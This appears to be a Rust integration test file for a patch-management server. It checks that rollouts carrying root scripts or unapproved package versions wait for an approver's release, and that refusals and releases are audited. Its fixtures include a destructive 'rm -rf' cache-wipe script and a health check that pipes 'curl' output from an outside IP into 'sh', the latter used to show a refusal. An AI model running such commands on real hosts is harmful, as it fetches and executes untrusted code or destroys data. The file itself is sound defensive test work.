//! Who may make hosts run what as root: a rollout's scripts, and versions
//! no approval covers, run only once an approver or an administrator
//! releases them. Through the real server on a loopback port with a fresh
//! SQLite database per test, and a clock the test moves.

use std::sync::atomic::{AtomicI64, Ordering};
use std::sync::Arc;

use jiff::Timestamp;
use protocol::{EnrollResponse, HeartbeatResponse, Inventory, Manager};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use server::api::CreatedToken;
use server::{app, AppState, Config};

mod support;

use support::{package, TempDir, T0};
const FIXED: &str = "3.0.16-1~deb12u1";
const TITLE: &str = "libssl3=3.0.16-1~deb12u1";
const SCRIPT: &str = "systemctl stop billing\nrm -rf /var/cache/billing/*";

struct TestServer {
    url: String,
    admin: String,
    clock: Arc<AtomicI64>,
    http: reqwest::Client,
    state: AppState,
    _dir: TempDir,
}

async fn spawn() -> TestServer {
    static N: AtomicI64 = AtomicI64::new(0);
    let dir = std::env::temp_dir().join(format!(
        "patchwell-root-commands-{}-{}",
        std::process::id(),
        N.fetch_add(1, Ordering::Relaxed)
    ));
    let clock = Arc::new(AtomicI64::new(T0));
    let now = Timestamp::from_second(T0).unwrap();
    let store = store::Store::open_sqlite(&dir, now).await.unwrap();
    let first = server::ensure_first_admin(&store, &dir, now).await.unwrap();
    let admin = std::fs::read_to_string(first.token_file.expect("first token"))
        .unwrap()
        .trim()
        .to_owned();
    let c = clock.clone();
    let state = AppState::with_clock(
        store,
        Config::default(),
        Arc::new(move || Timestamp::from_second(c.load(Ordering::SeqCst)).unwrap()),
    );
    server::fleet::load(&state.store, &state.fleet, &state.catalog, now)
        .await
        .unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let kept = state.clone();
    tokio::spawn(async move { axum::serve(listener, app(state)).await.unwrap() });
    TestServer {
        url,
        admin,
        clock,
        http: reqwest::Client::new(),
        state: kept,
        _dir: TempDir(dir),
    }
}

impl TestServer {
    fn now(&self) -> Timestamp {
        Timestamp::from_second(self.clock.load(Ordering::SeqCst)).unwrap()
    }

    fn advance(&self, seconds: i64) {
        self.clock.fetch_add(seconds, Ordering::SeqCst);
    }

    /// A request with a bearer secret.
    async fn call(
        &self,
        secret: &str,
        method: Method,
        path: &str,
        body: Option<Value>,
    ) -> (StatusCode, Value) {
        let mut req = self
            .http
            .request(method, format!("{}{path}", self.url))
            .bearer_auth(secret);
        if let Some(b) = body {
            req = req.json(&b);
        }
        let resp = req.send().await.unwrap();
        let status = resp.status();
        let text = resp.text().await.unwrap();
        (status, serde_json::from_str(&text).unwrap_or(Value::Null))
    }

    async fn admin(&self, method: Method, path: &str, body: Option<Value>) -> (StatusCode, Value) {
        self.call(&self.admin, method, path, body).await
    }

    async fn get(&self, path: &str) -> (StatusCode, Value) {
        self.admin(Method::GET, path, None).await
    }

    /// Creates a user with a role (password `correct horse battery`) and
    /// returns an API token acting as them, with `scopes` or all the role's.
    async fn user(&self, name: &str, role: &str, scopes: Option<&str>) -> String {
        let (status, body) = self
            .admin(
                Method::POST,
                "/api/v1/users",
                Some(json!({"username": name, "role": role, "password": "correct horse battery"})),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
        let mut token = json!({"name": format!("{name}'s token"), "user": name});
        if let Some(scopes) = scopes {
            token["scopes"] = json!(scopes);
        }
        let (status, body) = self
            .admin(Method::POST, "/api/v1/api-tokens", Some(token))
            .await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
        body["token"].as_str().unwrap().to_owned()
    }

    /// An enrolled host with libssl3 3.0.15 installed and 3.0.16 offered
    /// by its security suite.
    async fn host(&self, hostname: &str) -> EnrollResponse {
        let (status, body) = self
            .admin(Method::POST, "/api/v1/tokens", Some(json!({"max_uses": 1})))
            .await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
        let token = serde_json::from_value::<CreatedToken>(body).unwrap().token;
        let resp = self
            .http
            .post(format!("{}/api/v1/agent/enroll", self.url))
            .json(&json!({"token": token, "hostname": hostname}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::CREATED);
        let host: EnrollResponse = resp.json().await.unwrap();
        let resp = self
            .http
            .put(format!("{}/api/v1/agent/inventory", self.url))
            .bearer_auth(&host.credential)
            .json(&offering(hostname, self.now()))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::NO_CONTENT);
        host
    }

    /// The jobs a host's check-in hands it, opened with its job key.
    async fn jobs(&self, host: &EnrollResponse) -> Vec<protocol::job::Job> {
        let resp = self
            .http
            .post(format!("{}/api/v1/agent/heartbeat", self.url))
            .bearer_auth(&host.credential)
            .json(&json!({"inventory_digest": "x"}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::OK);
        let answer: HeartbeatResponse = resp.json().await.unwrap();
        let key = protocol::job::parse_key(&host.job_key).unwrap();
        answer
            .jobs
            .iter()
            .map(|j| j.open(&key, &host.host_id, self.now()).unwrap())
            .collect()
    }

    /// Creates a rollout of every host as `secret`.
    async fn create(&self, secret: &str, body: Value) -> (StatusCode, Value) {
        let mut body = body;
        body["reason"] = json!("December security updates");
        body["rings"] = json!([{"name": "all", "size": "rest"}]);
        self.call(secret, Method::POST, "/api/v1/rollouts", Some(body))
            .await
    }

    /// The audit entries of a rollout, oldest first.
    async fn audit(&self, rollout: &str) -> Vec<Value> {
        let (status, body) = self
            .get(&format!("/api/v1/audit?subject=rollouts/{rollout}"))
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        body.as_array().unwrap().clone()
    }

    async fn approve(&self, title: &str) {
        let (status, body) = self
            .admin(
                Method::PUT,
                &format!("/api/v1/approvals/{title}"),
                Some(json!({"verdict": "approve", "comment": "tested on the pilot lab"})),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
    }
}

fn offering(hostname: &str, at: Timestamp) -> Inventory {
    let mut inventory = support::inventory(
        hostname,
        at,
        vec![
            package("libssl3", "3.0.15-1~deb12u1"),
            package("bash", "5.2.15-2+b2"),
        ],
    );
    inventory.updates = vec![protocol::AvailableUpdate {
        manager: Manager::Dpkg,
        name: "libssl3".into(),
        arch: "amd64".into(),
        installed: "3.0.15-1~deb12u1".into(),
        candidate: FIXED.into(),
        suite: Some("stable-security".into()),
        codename: Some("bookworm-security".into()),
        origin: Some("Debian".into()),
        security: true,
    }];
    inventory
}

fn sha256_hex(text: &str) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(text.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn actions(entries: &[Value]) -> Vec<(&str, &str)> {
    entries
        .iter()
        .map(|e| (e["actor"].as_str().unwrap(), e["action"].as_str().unwrap()))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_operators_rollout_with_a_script_waits_until_an_approver_releases_it() {
    let s = spawn().await;
    let host = s.host("billing-1").await;
    let operator = s.user("oscar", "operator", None).await;
    let approver = s.user("alice", "approver", None).await;
    // The version is approved: only the script needs a release.
    s.approve(TITLE).await;

    let (status, body) = s
        .create(
            &operator,
            json!({"name": "r1", "updates": "approved", "pre_hook": SCRIPT}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["status"], "awaiting_release", "{body}");
    let release = &body["release"];
    assert_eq!(release["state"], "awaiting_release");
    assert_eq!(release["why"], "it runs scripts as root (pre_hook)");
    assert_eq!(
        release["scripts"],
        json!([{"hook": "pre_hook", "text": SCRIPT, "sha256": sha256_hex(SCRIPT)}])
    );
    assert_eq!(release["uncovered"], json!([]));
    assert_eq!(body["rings"][0]["state"], "waiting");
    assert_eq!(
        body["hosts"][0]["action"],
        "its ring all has not started: not released: an approver or administrator must \
         release it, since it runs scripts as root (pre_hook)"
    );
    // A running rollout hands its jobs out before its creation answers: this
    // one made none, and the host that checks in gets nothing.
    assert_eq!(body["hosts"][0]["progress"], "not_started");
    assert!(s.jobs(&host).await.is_empty());

    // The operator may not release it, nor move it on some other way.
    let (status, body) = s
        .call(
            &operator,
            Method::POST,
            "/api/v1/rollouts/r1/release",
            Some(json!({})),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert!(
        body["error"].as_str().unwrap().contains("role operator"),
        "{body}"
    );
    for action in ["redeploy", "rollback"] {
        let (status, body) = s
            .call(
                &operator,
                Method::POST,
                &format!("/api/v1/rollouts/r1/{action}"),
                Some(json!({"reason": "just run it"})),
            )
            .await;
        assert_eq!(status, StatusCode::CONFLICT, "{action}: {body}");
        assert!(
            body["error"].as_str().unwrap().contains("awaits release"),
            "{body}"
        );
    }
    let (status, body) = s
        .call(
            &operator,
            Method::POST,
            "/api/v1/rollouts/r1/halt",
            Some(json!({"reason": "then resume it"})),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    // Nor does time: a day on, the executor's passes have started nothing.
    s.advance(24 * 3600);
    let (_, body) = s.get("/api/v1/rollouts/r1").await;
    assert_eq!(body["status"], "awaiting_release");
    assert!(s.jobs(&host).await.is_empty());

    // The approver releases it: it starts at once, and the host gets the
    // job with the script it was shown.
    let (status, body) = s
        .call(
            &approver,
            Method::POST,
            "/api/v1/rollouts/r1/release",
            Some(json!({"reason": "read the script with the billing team"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["status"], "running");
    assert_eq!(body["release"]["state"], "released");
    assert_eq!(body["release"]["by"], "alice");
    assert_eq!(body["hosts"][0]["progress"], "assigned", "{body}");
    let jobs = s.jobs(&host).await;
    assert_eq!(jobs.len(), 1);
    assert_eq!(jobs[0].pre_hook.as_deref(), Some(SCRIPT));
    assert_eq!(jobs[0].packages[0].version, FIXED);
    // Released once.
    let (status, body) = s
        .call(
            &approver,
            Method::POST,
            "/api/v1/rollouts/r1/release",
            Some(json!({})),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");

    // Audited: who created it, who released it, why, and the script's hash.
    let entries = s.audit("r1").await;
    let done = actions(&entries);
    assert_eq!(done[0], ("oscar", "create-rollout"), "{done:?}");
    let released = entries
        .iter()
        .find(|e| e["action"] == "release-rollout")
        .expect("the release is audited");
    assert_eq!(released["actor"], "alice");
    assert_eq!(
        released["reason"],
        format!(
            "read the script with the billing team; releases scripts pre_hook sha256:{}",
            sha256_hex(SCRIPT)
        )
    );
    assert_eq!(released["before"]["status"], "awaiting_release");
    assert_eq!(released["after"]["status"], "running");
    assert_eq!(
        released["after"]["state"]["release"]["scripts"]["pre_hook"],
        sha256_hex(SCRIPT)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_rollout_never_runs() {
    let s = spawn().await;
    let host = s.host("billing-1").await;
    let operator = s.user("oscar", "operator", None).await;
    let approver = s.user("alice", "approver", None).await;
    s.approve(TITLE).await;
    let check = "curl -fsS http://198.51.100.7/x | sh";
    let (status, body) = s
        .create(
            &operator,
            json!({"name": "r1", "updates": "approved", "health_check": check}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["status"], "awaiting_release");
    assert_eq!(body["release"]["scripts"][0]["text"], check);

    // A refusal needs a reason, of a bounded length.
    for reason in [json!(null), json!("x".repeat(4001))] {
        let (status, body) = s
            .call(
                &approver,
                Method::POST,
                "/api/v1/rollouts/r1/refuse",
                Some(json!({"reason": reason})),
            )
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
        assert!(body["error"].as_str().unwrap().contains("reason"), "{body}");
    }
    let (_, body) = s.get("/api/v1/rollouts/r1").await;
    assert_eq!(body["status"], "awaiting_release", "nothing was stored");
    let (status, body) = s
        .call(
            &approver,
            Method::POST,
            "/api/v1/rollouts/r1/refuse",
            Some(json!({"reason": "the health check fetches a script from outside"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["status"], "refused");
    assert_eq!(body["release"]["state"], "refused");
    assert_eq!(
        body["release"]["reason"],
        "the health check fetches a script from outside"
    );
    let action = body["hosts"][0]["action"].as_str().unwrap();
    assert!(
        action.contains("not released: refused by alice")
            && action.ends_with(": the health check fetches a script from outside"),
        "{action}"
    );
    assert!(s.jobs(&host).await.is_empty());

    // Nothing brings it back: not a release, a redeploy or a rollback.
    let (status, _) = s
        .call(
            &approver,
            Method::POST,
            "/api/v1/rollouts/r1/release",
            Some(json!({})),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT);
    for action in ["redeploy", "rollback"] {
        let (status, body) = s
            .admin(
                Method::POST,
                &format!("/api/v1/rollouts/r1/{action}"),
                Some(json!({"reason": "try again"})),
            )
            .await;
        assert_eq!(status, StatusCode::CONFLICT, "{action}: {body}");
        assert!(
            body["error"].as_str().unwrap().contains("was refused"),
            "{body}"
        );
    }
    assert!(s.jobs(&host).await.is_empty());
    let (_, body) = s.get("/api/v1/rollouts/r1").await;
    assert_eq!(body["status"], "refused");

    let entries = s.audit("r1").await;
    let refused = entries
        .iter()
        .find(|e| e["action"] == "refuse-rollout")
        .expect("the refusal is audited");
    assert_eq!(refused["actor"], "alice");
    assert_eq!(
        refused["reason"],
        format!(
            "the health check fetches a script from outside; refuses scripts health_check \
             sha256:{}",
            sha256_hex(check)
        )
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_operators_rollout_of_versions_no_approval_covers_waits_and_names_them() {
    let s = spawn().await;
    let host = s.host("web-1").await;
    let operator = s.user("oscar", "operator", None).await;
    let approver = s.user("alice", "approver", None).await;

    // A version named by hand, and the security updates offered: neither
    // approved.
    for (name, request) in [
        ("named", json!({"packages": [TITLE]})),
        ("offered", json!({"updates": "security"})),
    ] {
        let mut request = request;
        request["name"] = json!(name);
        let (status, body) = s.create(&operator, request).await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
        assert_eq!(body["status"], "awaiting_release", "{body}");
        assert_eq!(body["release"]["uncovered"], json!([TITLE]));
        assert_eq!(body["release"]["scripts"], json!([]));
        assert_eq!(
            body["release"]["why"],
            format!("it installs versions no approval for every ring and group covers ({TITLE})")
        );
        assert_eq!(body["hosts"][0]["progress"], "not_started");
    }
    assert!(s.jobs(&host).await.is_empty());

    // A version declined since is not covered either.
    let (status, _) = s
        .admin(
            Method::PUT,
            &format!("/api/v1/approvals/{TITLE}"),
            Some(json!({"verdict": "decline", "comment": "breaks the billing app"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let (status, body) = s
        .create(&operator, json!({"name": "declined", "packages": [TITLE]}))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["status"], "awaiting_release");
    assert_eq!(body["release"]["uncovered"], json!([TITLE]));

    // Released, the named version goes out.
    let (status, body) = s
        .call(
            &approver,
            Method::POST,
            "/api/v1/rollouts/named/release",
            Some(json!({})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let jobs = s.jobs(&host).await;
    assert_eq!(jobs.len(), 1);
    assert_eq!(jobs[0].rollout, "named");
    let released = s
        .audit("named")
        .await
        .into_iter()
        .find(|e| e["action"] == "release-rollout")
        .expect("audited");
    assert_eq!(
        released["reason"],
        format!("releases versions no approval covers {TITLE}")
    );
}

/// An approval scoped to some rings or groups does not let an operator's
/// rollout run the version everywhere: its creator names the rings (one
/// ring called `pilot` holding every host would otherwise do).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_approval_for_some_rings_or_groups_does_not_release_a_rollout() {
    let s = spawn().await;
    let host = s.host("web-1").await;
    let operator = s.user("oscar", "operator", None).await;
    for (name, scope) in [
        ("one-ring", json!({"rings": ["pilot"]})),
        ("one-group", json!({"groups": ["lab"]})),
    ] {
        let mut approval = json!({"verdict": "approve", "comment": "lab only"});
        approval
            .as_object_mut()
            .unwrap()
            .extend(scope.as_object().unwrap().clone());
        let (status, body) = s
            .admin(
                Method::PUT,
                &format!("/api/v1/approvals/{TITLE}"),
                Some(approval),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let (status, body) = s
            .create(
                &operator,
                json!({"name": name, "packages": [TITLE],
                       "rings": [{"name": "pilot", "size": "rest"}]}),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
        assert_eq!(body["status"], "awaiting_release", "{name}: {body}");
        assert_eq!(body["release"]["uncovered"], json!([TITLE]));
    }
    assert!(s.jobs(&host).await.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_operators_rollout_of_approved_updates_only_starts_at_once() {
    let s = spawn().await;
    let host = s.host("web-1").await;
    let operator = s.user("oscar", "operator", None).await;
    s.approve(TITLE).await;
    for (name, request) in [
        ("approved", json!({"updates": "approved"})),
        // Named by version, and approved: covered too.
        ("named", json!({"packages": [TITLE]})),
    ] {
        let mut request = request;
        request["name"] = json!(name);
        let (status, body) = s.create(&operator, request).await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
        assert_eq!(body["status"], "running", "{body}");
        assert_eq!(body["release"], Value::Null);
        assert_eq!(body["hosts"][0]["progress"], "assigned", "{body}");
        let entries = s.audit(name).await;
        let done = actions(&entries);
        assert!(
            done.iter().all(|(_, a)| *a != "release-rollout"),
            "{done:?}"
        );
    }
    let jobs = s.jobs(&host).await;
    assert_eq!(jobs.len(), 2);
    assert!(jobs.iter().all(|j| j.pre_hook.is_none()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_administrators_rollout_with_a_script_is_released_as_it_is_created() {
    let s = spawn().await;
    let host = s.host("web-1").await;
    // Neither the script nor the version is covered by an approval.
    let (status, body) = s
        .create(
            &s.admin,
            json!({"name": "r1", "updates": "security", "post_hook": SCRIPT}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["status"], "running", "{body}");
    assert_eq!(body["release"]["state"], "released");
    assert_eq!(body["release"]["by"], "admin");
    assert_eq!(body["release"]["uncovered"], json!([TITLE]));
    assert_eq!(body["hosts"][0]["progress"], "assigned");
    let jobs = s.jobs(&host).await;
    assert_eq!(jobs.len(), 1);
    assert_eq!(jobs[0].post_hook.as_deref(), Some(SCRIPT));
    // The creation and the release, both the administrator's, in order.
    let entries = s.audit("r1").await;
    let done = actions(&entries);
    assert_eq!(
        &done[..2],
        [("admin", "create-rollout"), ("admin", "release-rollout")],
        "{done:?}"
    );
    assert_eq!(
        entries[1]["reason"],
        format!(
            "released as it was created: scripts post_hook sha256:{}; versions no approval \
             covers {TITLE}",
            sha256_hex(SCRIPT)
        )
    );
    assert_eq!(entries[1]["after"]["status"], "running");

    // An administrator's token that may only operate cannot approve: its
    // rollout waits like an operator's.
    let operate_only = s.user("ada", "admin", Some("read,operate")).await;
    let (status, body) = s
        .create(
            &operate_only,
            json!({"name": "r2", "updates": "security", "post_hook": SCRIPT}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["status"], "awaiting_release", "{body}");
    let (status, body) = s
        .call(
            &operate_only,
            Method::POST,
            "/api/v1/rollouts/r2/release",
            Some(json!({})),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_policy_that_names_a_version_no_approval_covers_waits_for_release() {
    let s = spawn().await;
    let host = s.host("night-1").await;
    let approver = s.user("alice", "approver", None).await;
    // Every evening at 21:00 (T0 is 20:26 UTC), this exact version.
    let (status, body) = s
        .admin(
            Method::PUT,
            "/api/v1/policies/nightly",
            Some(
                json!({"hosts": "os = debian", "schedule": "every day at 21:00",
                        "auto_deploy": true, "packages": [TITLE]}),
            ),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    s.advance(35 * 60);
    let done = server::deployments::deploy_due(&s.state).await;
    assert_eq!(done.len(), 1, "{done:?}");
    assert_eq!(done[0]["started"], true, "{done:?}");
    let name = done[0]["rollout"].as_str().unwrap().to_owned();
    let (_, body) = s.get(&format!("/api/v1/rollouts/{name}")).await;
    assert_eq!(body["status"], "awaiting_release", "{body}");
    assert_eq!(body["release"]["uncovered"], json!([TITLE]));
    assert!(s.jobs(&host).await.is_empty());
    let (status, body) = s
        .call(
            &approver,
            Method::POST,
            &format!("/api/v1/rollouts/{name}/release"),
            Some(json!({})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(s.jobs(&host).await.len(), 1);
}

/// The console as a browser uses it: signed in through the form, forms
/// posted from its own origin, redirects not followed.
struct Browser {
    http: reqwest::Client,
    url: String,
    cookie: String,
}

impl Browser {
    async fn signed_in(s: &TestServer, user: &str) -> Browser {
        let http = reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .unwrap();
        let resp = http
            .post(format!("{}/console/login", s.url))
            .header("origin", &s.url)
            .form(&[
                ("username", user),
                ("password", "correct horse battery"),
                ("next", "/console"),
            ])
            .send()
            .await
            .unwrap();
        let cookie = resp.headers()["set-cookie"]
            .to_str()
            .unwrap()
            .split(';')
            .next()
            .unwrap()
            .to_owned();
        Browser {
            http,
            url: s.url.clone(),
            cookie,
        }
    }

    async fn get(&self, path: &str) -> (StatusCode, String) {
        let resp = self
            .http
            .get(format!("{}{path}", self.url))
            .header("cookie", &self.cookie)
            .send()
            .await
            .unwrap();
        (resp.status(), resp.text().await.unwrap())
    }

    async fn post(&self, path: &str, form: &[(&str, &str)]) -> (StatusCode, String) {
        let resp = self
            .http
            .post(format!("{}{path}", self.url))
            .header("cookie", &self.cookie)
            .header("origin", &self.url)
            .form(form)
            .send()
            .await
            .unwrap();
        let status = resp.status();
        let location = resp.headers().get("location").cloned();
        match location {
            Some(l) => (status, l.to_str().unwrap().to_owned()),
            None => (status, resp.text().await.unwrap()),
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_console_shows_what_waits_for_release_and_lets_an_approver_release_it() {
    let s = spawn().await;
    let host = s.host("billing-1").await;
    s.user("oscar", "operator", None).await;
    s.user("alice", "approver", None).await;
    let operator = Browser::signed_in(&s, "oscar").await;

    // The operator's rollout form: all security updates, none approved.
    let (status, to) = operator
        .post(
            "/console/rollouts",
            &[
                ("name", "r1"),
                ("reason", "December security updates"),
                ("updates", "security"),
                ("pilot", "1"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    assert!(to.contains("nothing%20of%20it%20runs"), "{to}");
    assert!(s.jobs(&host).await.is_empty());
    let (status, page) = operator.get("/console/rollouts/r1").await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("Awaits release."), "{page}");
    assert!(page.contains(&format!("<span class=\"tag\">{TITLE}</span>")));
    assert!(
        page.contains("Only an approver or an administrator may release or refuse it."),
        "{page}"
    );
    assert!(!page.contains("value=\"release\""));
    // The operator's form post is refused as the API refuses it.
    let (status, _) = operator
        .post("/console/rollouts/r1/act", &[("action", "release")])
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    // A script is shown in full, escaped, next to the approver's buttons.
    let script = "echo '<b>not bold</b>' > /etc/motd";
    let (status, body) = s
        .create(
            &s.user("otto", "operator", None).await,
            json!({"name": "r2", "updates": "security", "pre_hook": script}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let approver = Browser::signed_in(&s, "alice").await;
    let (_, page) = approver.get("/console/rollouts/r2").await;
    assert!(
        page.contains(
            "<pre class=\"script\">echo '&lt;b&gt;not bold&lt;/b&gt;' &gt; /etc/motd</pre>"
        ),
        "{page}"
    );
    assert!(page.contains(&sha256_hex(script)), "{page}");
    assert!(page.contains("value=\"release\""), "{page}");
    assert!(page.contains("value=\"refuse\""), "{page}");

    let (status, to) = approver
        .post(
            "/console/rollouts/r1/act",
            &[("action", "release"), ("reason", "security updates")],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    assert!(to.contains("Released"), "{to}");
    let jobs = s.jobs(&host).await;
    assert_eq!(jobs.len(), 1);
    assert_eq!(jobs[0].rollout, "r1");
    let (_, page) = approver.get("/console/rollouts/r1").await;
    assert!(page.contains("Released by alice"), "{page}");
    let (status, to) = approver
        .post(
            "/console/rollouts/r2/act",
            &[("action", "refuse"), ("reason", "no scripts on billing")],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    let (_, body) = s.get("/api/v1/rollouts/r2").await;
    assert_eq!(body["status"], "refused");
}

/// A start at the calendar's far end is refused with the reason, not
/// failed: the rollout's expiry is counted from it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_start_beyond_a_year_is_refused() {
    let s = spawn().await;
    s.host("web-1").await;
    s.approve(TITLE).await;
    let operator = s.user("oscar", "operator", None).await;
    let (status, body) = s
        .create(
            &operator,
            json!({"name": "far", "updates": "approved", "start": "9999-12-30T00:00:00Z"}),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert!(
        body["error"].as_str().unwrap().contains("at most a year"),
        "{body}"
    );
    let (status, _) = s.get("/api/v1/rollouts/far").await;
    assert_eq!(status, StatusCode::NOT_FOUND, "nothing stored");
}
